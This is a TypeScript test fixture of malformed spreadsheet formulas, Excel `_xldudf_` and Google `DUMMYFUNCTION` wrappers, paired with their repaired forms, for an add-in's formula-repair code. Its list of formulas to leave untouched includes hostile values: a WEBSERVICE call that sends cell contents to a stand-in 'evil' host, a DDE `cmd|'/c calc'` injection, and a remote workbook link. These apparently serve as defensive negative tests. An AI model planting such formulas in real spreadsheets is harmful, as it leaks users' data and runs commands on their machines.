/**
 * Formulas as they come back from another host, and what they are to become. Excel's `_xldudf_` is told in OfficeDev/office-js
 * issues 3558 and 5611; Google's wrapper stands in files that Sheets exports (vinci1it2000/formulas issue 51). The formula
 * inside is the one that was typed, so the expected formula is read off each case by hand.
 */
export const brokenForms: readonly (readonly [what: string, broken: string, repaired: string])[] = [
  ['Excel’s form', '=_xldudf_ICS_DEFICIT("LSC")', '=ICS_DEFICIT("LSC")'],
  ['Excel’s form in small letters', '=_XLDUDF_ics_deficit("LSC")', '=ICS_DEFICIT("LSC")'],
  ['Excel’s form of a name without ICS', '=_xldudf_SAVINGS_RATE(300,3,3700)', '=SAVINGS_RATE(300,3,3700)'],
  ['Excel’s form with a namespace', '=_xldudf_ICSDEV_ICS_DEFICIT("LSC")', '=ICS_DEFICIT("LSC")'],
  ['Excel’s form with the namespace ICS', '=_xldudf_ICS_ICS_DEFICIT("LSC")', '=ICS_DEFICIT("LSC")'],
  ['Excel’s form with a namespace, no ICS', '=_xldudf_ICSDEV_SAVINGS_RATE(300,3,3700)', '=SAVINGS_RATE(300,3,3700)'],
  ['a typed namespace', '=ICSDEV.ICS_DEFICIT("LSC")', '=ICS_DEFICIT("LSC")'],
  ['a typed namespace ICS', '=ICS.SAVINGS_RATE(300,3,3700)', '=SAVINGS_RATE(300,3,3700)'],
  ['several calls', '=_xldudf_ICS_DEFICIT("LSC")-_xldudf_ICS_DEFICIT("QYG")', '=ICS_DEFICIT("LSC")-ICS_DEFICIT("QYG")'],
  [
    'calls within calls',
    '=ROUND(_xldudf_SAVINGS_RATE(_xldudf_ICS_DEFICIT(A2),3,_xldudf_ICS_BUDGET(A2)),3)',
    '=ROUND(SAVINGS_RATE(ICS_DEFICIT(A2),3,ICS_BUDGET(A2)),3)',
  ],
  ['a space before the bracket', '=1+ _xldudf_ICS_DEFICIT ("LSC")', '=1+ ICS_DEFICIT ("LSC")'],
  [
    'a call beside a text that looks broken',
    '=_xldudf_ICS_NAME("LSC")&" _xldudf_ICS_NAME(""LSC"")"',
    '=ICS_NAME("LSC")&" _xldudf_ICS_NAME(""LSC"")"',
  ],
  ['one sign of implicit intersection', '=@_xldudf_ICS_DEFICIT(A2)', '=@ICS_DEFICIT(A2)'],
  ['Google’s form', '=IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")"), 300)', '=ICS_DEFICIT("LSC")'],
  [
    'Google’s form with one underscore',
    '=IFERROR(_xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")"),300)',
    '=ICS_DEFICIT("LSC")',
  ],
  ['Google’s form without IFERROR', '=__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")")', '=ICS_DEFICIT("LSC")'],
  [
    'Google’s form with an equals sign',
    '=IFERROR(__xludf.DUMMYFUNCTION("=ICS_DEFICIT(""LSC"")"),300)',
    '=ICS_DEFICIT("LSC")',
  ],
  [
    'Google’s form with quotes in a name',
    '=IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(""Together """"We"""" Are"")"),"#N/A")',
    '=ICS_NAME("Together ""We"" Are")',
  ],
  [
    'Google’s form of a larger formula',
    '=IFERROR(__xludf.DUMMYFUNCTION("ROUND(ICS_DEFICIT(""LSC"")/ICS_BUDGET(""LSC""),3)"),0.081)',
    '=ROUND(ICS_DEFICIT("LSC")/ICS_BUDGET("LSC"),3)',
  ],
  [
    'Google’s form inside a larger formula',
    '=ROUND(IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")"),300)*2,1)',
    '=ROUND(ICS_DEFICIT("LSC")*2,1)',
  ],
  [
    'a sum that Google froze inside a product keeps its brackets',
    '=2*IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")+1"),301)',
    '=2*(ICS_DEFICIT("LSC")+1)',
  ],
  [
    'a sum that Google froze below a minus sign keeps its brackets',
    '=-IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")+1"),301)',
    '=-(ICS_DEFICIT("LSC")+1)',
  ],
  [
    'a sum that Google froze as an argument needs none',
    '=MAX(0,IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")+1"),301))',
    '=MAX(0,ICS_DEFICIT("LSC")+1)',
  ],
  [
    'a long text that Google cut in two',
    '=IFERROR(__xludf.DUMMYFUNCTION("ICS_DEF"&"ICIT(""LSC"")"),300)',
    '=ICS_DEFICIT("LSC")',
  ],
  [
    'Excel’s form, frozen by Google',
    '=IFERROR(__xludf.DUMMYFUNCTION("_xldudf_ICS_DEFICIT(""LSC"")"),"#NAME?")',
    '=ICS_DEFICIT("LSC")',
  ],
  [
    'Google’s form, frozen again',
    '=IFERROR(__xludf.DUMMYFUNCTION("IFERROR(__xludf.DUMMYFUNCTION(""ICS_DEFICIT(""""LSC"""")""),300)"),300)',
    '=ICS_DEFICIT("LSC")',
  ],
  [
    'the user’s own IFERROR stays',
    '=IFERROR(__xludf.DUMMYFUNCTION("IFERROR(ICS_DEFICIT(""X""),""none"")"),"none")',
    '=IFERROR(ICS_DEFICIT("X"),"none")',
  ],
  [
    'the user’s own IFERROR around Excel’s form stays',
    '=IFERROR(_xldudf_ICS_DEFICIT("X"),"none")',
    '=IFERROR(ICS_DEFICIT("X"),"none")',
  ],
  [
    'only our part of a formula',
    '=_xldudf_ICS_DEFICIT("LSC")+_xldudf_WISEPRICE("MSFT")',
    '=ICS_DEFICIT("LSC")+_xldudf_WISEPRICE("MSFT")',
  ],
];

/** Formulas that nobody asked us to touch. */
export const otherFormulas: readonly string[] = [
  '=SUM(A1:A3)',
  '=ICS_DEFICIT("LSC")',
  '=ics_deficit("LSC")',
  '="_xldudf_ICS_DEFICIT(""LSC"")"',
  '="IFERROR(__xludf.DUMMYFUNCTION(""ICS_DEFICIT()""),1)"',
  "='_xldudf_ICS_DEFICIT('!A1",
  '=Table1[_xldudf_ICS_DEFICIT(]',
  '=_xldudf_WISEPRICE("MSFT")',
  '=_xldudf_OTHER_SAVINGS_RATE(1,2,3)',
  '=_xldudf_ICS_DEFICITS("LSC")',
  '=_xldudf_MY_ICS_DEFICIT("LSC")',
  '=OTHER.SAVINGS_RATE(1,2,3)',
  '=_xldudf_ICS_DEFICIT',
  '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.org"",""A1"")"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("QUERY(ICS_TABLE(""LSC""),""select A"")"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""ICS_DEFICIT("",""A1"")"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(1)&WEBSERVICE(""https://evil/?""&A1)"),97)',
  '=__xludf.DUMMYFUNCTION("ICS_DEFICIT(1)&_xlfn.WEBSERVICE(""https://evil/?""&A1)")',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(MAP(A1,webservice))"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(cmd|\'/c calc\'!A1)"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME(\'https://evil/[b.xlsx]S\'!A1)"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_NAME([b.xlsx]S!A1)"),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION(A1),97)',
  '=IFERROR(__xludf.DUMMYFUNCTION("ICS_DEFICIT(""LSC"")"',
  '_xldudf_ICS_DEFICIT("LSC")',
  '',
  '=',
];
